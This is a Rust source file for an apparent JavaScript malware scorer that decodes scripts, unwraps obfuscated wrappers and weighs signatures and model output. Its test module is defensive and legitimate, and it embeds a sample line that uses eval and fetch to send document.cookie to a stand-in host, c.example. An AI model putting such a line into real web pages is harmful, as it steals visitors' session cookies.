//! The scorer: bytes in, report out.

use std::fmt;
use std::sync::Arc;

use crate::analysis::{self, Analysis, Tables};
use crate::bounds::Bounds;
use crate::features::Features;
use crate::inert;
use crate::limits::{self, Limits};
use crate::model::{LOWEST_ODDS, Model, Outcome};
use crate::signals;
use crate::wrapped;
use crate::{
    Error, ParseStatus, Score, Scores, ScriptDigests, ScriptReport, Severity, Signatures, Stage, Stop, source,
};

/// The embedded model.
#[cfg(feature = "bundled-model")]
pub(crate) const BUNDLED: &[u8] = include_bytes!("../models/bundled.model");

/// Scores scripts with one model.
///
/// Made once and kept: making it prepares the model and the tables, which takes about four milliseconds. Cheap to clone,
/// `Send + Sync`, without locks: one serves any number of threads.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use std::thread;
/// use jsintegrity::{ErrorKind, Scorer};
///
/// let scorer = Scorer::bundled()?;
/// let scripts = ["let a = 1;", "document.cookie"];
/// let models = thread::scope(|threads| {
///     let running = scripts.map(|script| threads.spawn(|| scorer.score(script.as_bytes())));
///     running.map(|thread| thread.join().expect("a report").map(|report| report.model))
/// });
/// for model in models {
///     assert_eq!(model?, scorer.model_id());
/// }
///
/// // A model of one's own comes as bytes.
/// assert_eq!(Scorer::from_bytes(b"no model").unwrap_err().kind(), ErrorKind::CorruptModel);
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone)]
pub struct Scorer {
    inner: Arc<Inner>,
}

struct Inner {
    model: Arc<Model>,
    tables: Arc<Tables>,
    signatures: Signatures,
    limits: Limits,
    /// That of the model, with the name of the limits where these are not the default ones.
    id: String,
}

impl Scorer {
    /// The scorer with the embedded model.
    ///
    /// # Errors
    ///
    /// As [`from_bytes`](Self::from_bytes); with the model that is shipped there is none.
    #[cfg(feature = "bundled-model")]
    pub fn bundled() -> Result<Self, Error> {
        Self::from_bytes(BUNDLED)
    }

    /// A scorer with a model that was exported by `training/train.py`.
    ///
    /// # Errors
    ///
    /// [`ErrorKind::CorruptModel`](crate::ErrorKind::CorruptModel) when the bytes are no model, or a damaged one;
    /// [`ErrorKind::IncompatibleModel`](crate::ErrorKind::IncompatibleModel) when the model was trained for other
    /// features than this version computes.
    pub fn from_bytes(model: &[u8]) -> Result<Self, Error> {
        let (model, tables) = (Model::from_bytes(model)?, Arc::new(Tables::new()));
        Ok(Self::of(model, tables, Signatures::bundled(), limits::DEFAULT))
    }

    fn of(model: Arc<Model>, tables: Arc<Tables>, signatures: Signatures, limits: Limits) -> Self {
        let id = match limits.name() {
            Some(name) => format!("{}-{name}", model.id()),
            None => model.id().to_owned(),
        };
        Self { inner: Arc::new(Inner { model, tables, signatures, limits, id }) }
    }

    /// The same scorer with other limits.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// use jsintegrity::{Limit, Limits, Scorer};
    ///
    /// let mut limits = Limits::default();
    /// limits.bytes = 1 << 20;
    /// let scorer = Scorer::bundled()?.with_limits(limits);
    /// assert_eq!(scorer.limits().bytes, 1 << 20);
    /// assert_eq!(scorer.score(&[b' '; (1 << 20) + 1])?.limits, [Limit::Bytes]);
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    #[must_use]
    pub fn with_limits(&self, limits: Limits) -> Self {
        let (model, tables) = (Arc::clone(&self.inner.model), Arc::clone(&self.inner.tables));
        Self::of(model, tables, self.inner.signatures.clone(), limits)
    }

    /// The limits on the work per script.
    #[must_use]
    pub fn limits(&self) -> &Limits {
        &self.inner.limits
    }

    /// The same scorer with other signatures in place of the [bundled](Signatures::bundled) ones.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// use jsintegrity::{Scorer, Signatures};
    ///
    /// let scorer = Scorer::bundled()?;
    /// assert_eq!(scorer.signature_epoch(), Signatures::bundled().epoch());
    /// let without = scorer.with_signatures(Signatures::empty());
    /// assert_eq!(without.signatures().len(), 0);
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    #[must_use]
    pub fn with_signatures(&self, signatures: Signatures) -> Self {
        let (model, tables) = (Arc::clone(&self.inner.model), Arc::clone(&self.inner.tables));
        Self::of(model, tables, signatures, self.inner.limits.clone())
    }

    /// The signatures that scripts are compared with.
    #[must_use]
    pub fn signatures(&self) -> &Signatures {
        &self.inner.signatures
    }

    /// Identifies the signatures in answers: the epoch of the set.
    #[must_use]
    pub fn signature_epoch(&self) -> &str {
        self.inner.signatures.epoch()
    }

    /// Identifies the model in answers: the first 16 hexadecimal digits of the SHA-256 of its bytes. With other limits than the
    /// default ones a dash follows, and 16 digits that tell these limits from others.
    #[must_use]
    pub fn model_id(&self) -> &str {
        &self.inner.id
    }

    /// Scores one script, whatever its bytes: UTF-8, UTF-16 or Latin-1, JavaScript or not.
    ///
    /// Time and memory are linear in the script. The calling thread's stack may be as small as 256 KB: a script that
    /// needs more is parsed on a stack of its own.
    ///
    /// # Errors
    ///
    /// [`ErrorKind::Inference`](crate::ErrorKind::Inference) when the model cannot be run: a fault of the model, never
    /// of the script. The bundled model has no such fault.
    pub fn score(&self, script: &[u8]) -> Result<ScriptReport, Error> {
        self.score_until(script, &Stop::never())
    }

    /// The same, given up when the caller's [`Stop`] says so.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// use std::time::{Duration, Instant};
    /// use jsintegrity::{ErrorKind, Scorer, Stop};
    ///
    /// let (scorer, now) = (Scorer::bundled()?, Instant::now());
    /// assert!(scorer.score_until(b"go()", &Stop::at(now + Duration::from_secs(600))).is_ok());
    /// let error = scorer.score_until(b"go()", &Stop::at(now)).unwrap_err();
    /// assert_eq!(error.kind(), ErrorKind::OutOfTime);
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    ///
    /// # Errors
    ///
    /// [`ErrorKind::Cancelled`](crate::ErrorKind::Cancelled) or [`ErrorKind::OutOfTime`](crate::ErrorKind::OutOfTime) when it was
    /// given up; [`Error::stage`] says how far it came. Then nothing is known about the script: treat it as unknown. Others as for
    /// [`score`](Self::score).
    pub fn score_until(&self, script: &[u8], stop: &Stop) -> Result<ScriptReport, Error> {
        let Inner { model, tables, signatures, limits, id } = &*self.inner;
        let bounds = Bounds::new(limits, stop);
        bounds.enter(Stage::Decoding);
        bounds.ended()?;
        let text = source::decode(analysis::looked_at(script, limits));
        let analysis = Analysis::within(&text, tables, Some(&bounds));
        let hits = signatures.hits(&analysis.stream, &analysis.uses);
        bounds.enter(Stage::Weighing);
        let ceilings = signals::ceilings(&analysis.held);
        let of_signatures = signatures.ceilings(&hits);
        // The model has no say in what does nothing. Evidence has: a signature may name data.
        let is_data = inert::is_data(&analysis.stream);
        let is_clear = is_data && hits.is_empty() && ceilings == [Score::MAX; 3];
        let features =
            if is_clear { Features::default() } else { analysis.features(|word| model.knows(word)) };
        bounds.ended()?;
        let own = model.outcome(&features);
        let is_suspected =
            !is_clear && model.scores(&own).below(ceilings).js_integrity_score < Score::CLEARLY_HONEST;
        let of_content = if is_suspected { self.of_content(&analysis, ceilings, &bounds) } else { None };
        bounds.ended()?;
        let (outcome, ceilings) = match &of_content {
            Some(outcome) => (outcome, [Score::MAX; 3]),
            None => (&own, ceilings),
        };
        bounds.enter(Stage::Reporting);
        bounds.ended()?;
        let (scores, odds) = if is_data {
            (Scores::new(Score::MAX, [Score::MAX; 3]), LOWEST_ODDS)
        } else {
            (model.scores(outcome), model.log_odds(outcome))
        };
        let before = scores.js_integrity_score;
        let scores = scores.below(ceilings).below(of_signatures);
        let is_lowered = scores.js_integrity_score < before;
        let raw = f64::from(if is_lowered { scores.js_integrity_score.log_odds() } else { odds });
        let mut findings = analysis.findings(tables, signatures, &hits);
        let is_supported = findings.iter().any(|finding| finding.severity >= Severity::Medium);
        let is_accused = scores.js_integrity_score.is_malicious_at(Score::DEFAULT_THRESHOLD);
        if let Some(worst) = features.windows.get(own.worst).filter(|_| is_accused && !is_supported) {
            let (window, class) = (worst.items.clone(), scores.most_likely_class());
            findings.insert(0, signals::learned(&analysis.stream, window, class));
        }
        let report = ScriptReport {
            scores,
            raw,
            parse: analysis.syntax.status,
            limits: analysis.limits(script, limits),
            model: id.clone(),
            signatures: signatures.epoch().to_owned(),
            findings,
            urls: signals::urls(&analysis.stream),
            uses: analysis.used_addresses(),
            digests: ScriptDigests::new(script, analysis.structural()),
        };
        bounds.ended()?;
        Ok(report)
    }

    /// What the model makes of a script that does what this one does without its wrapper, if this one is no more than that, and
    /// neither the model nor evidence accuses the other.
    ///
    /// Evidence in the wrapper itself is mostly that something is coded, and then is gone with the coding. It stays if the text loads
    /// something from a host: loaders hide their host in this way.
    fn of_content(
        &self,
        analysis: &Analysis<'_>,
        ceilings: [Score; 3],
        bounds: &Bounds<'_>,
    ) -> Option<Outcome> {
        let Inner { model, tables, signatures, .. } = &*self.inner;
        (analysis.syntax.status == ParseStatus::Full).then_some(())?;
        let content = wrapped::content(analysis.stream.source())?;
        let is_bound = ceilings.iter().any(|ceiling| *ceiling < Score::CLEARLY_HONEST);
        let judged = |script: &str| {
            let inner = Analysis::within(script, tables, Some(bounds));
            let is_whole = !bounds.is_over() && inner.syntax.status == ParseStatus::Full;
            let loads = || wrapped::loads_from_host(inner.stream.source(), &inner.uses, &inner.facts);
            (is_whole && !(is_bound && loads())).then_some(())?;
            let hits = signatures.hits(&inner.stream, &inner.uses);
            let outcome = model.outcome(&inner.features(|word| model.knows(word)));
            let ceilings = [signals::ceilings(&inner.held), signatures.ceilings(&hits)];
            let scores = ceilings.into_iter().fold(model.scores(&outcome), Scores::below);
            let is_accused = scores.js_integrity_score.is_malicious_at(Score::DEFAULT_THRESHOLD);
            (!is_accused).then_some(outcome)
        };
        // What is left behind may make the text look better, too.
        let alone = judged(content.text())?;
        content.with_what_is_left().map_or(Some(alone), |script| judged(&script))
    }
}

impl fmt::Debug for Scorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Scorer").field("model_id", &self.model_id()).finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[cfg(feature = "bundled-model")]
    #[test]
    fn a_score_can_be_given_up_at_every_place() {
        use Stage::{Decoding, Evaluating, Following, Parsing, Reading, Reporting, Weighing};
        use std::collections::BTreeMap;

        let scorer = Scorer::bundled().unwrap();
        // Something to evaluate, to decode, to follow and to find, and enough of it for many turns.
        let script =
            "var k=0;for(var i=0;i<9000;i++){k+=i%7}eval(`fetch('//c.example/?'+document.cookie);go(1)`);"
                .to_owned()
                + &"f(function(a){b.src=a.value+c[1];});".repeat(400);
        let mut came_to: BTreeMap<Stage, usize> = BTreeMap::new();
        let mut last = Decoding;
        let asked =
            (1..100_000).find(|asks| match scorer.score_until(script.as_bytes(), &Stop::after(*asks)) {
                Ok(report) => {
                    assert_eq!(report, scorer.score(script.as_bytes()).unwrap());
                    true
                }
                Err(error) => {
                    let stage = error.stage().expect("a stage");
                    assert_eq!(error.kind(), crate::ErrorKind::Cancelled);
                    assert!(stage >= last, "{stage} after {last}");
                    last = stage;
                    *came_to.entry(stage).or_default() += 1;
                    false
                }
            });
        assert!(asked.is_some_and(|asked| asked > 40), "{asked:?}");
        // Between the stages, and within those that are loops.
        assert!(came_to.keys().eq(&[Decoding, Evaluating, Reading, Parsing, Following, Weighing, Reporting]));
        for stage in [Evaluating, Reading, Following, Weighing, Reporting] {
            assert!(came_to[&stage] > 1, "{came_to:?}");
        }
    }

    #[test]
    fn a_scorer_is_shared_between_threads() {
        fn shared<T: Clone + Send + Sync + 'static>() {}
        shared::<Scorer>();
    }
}
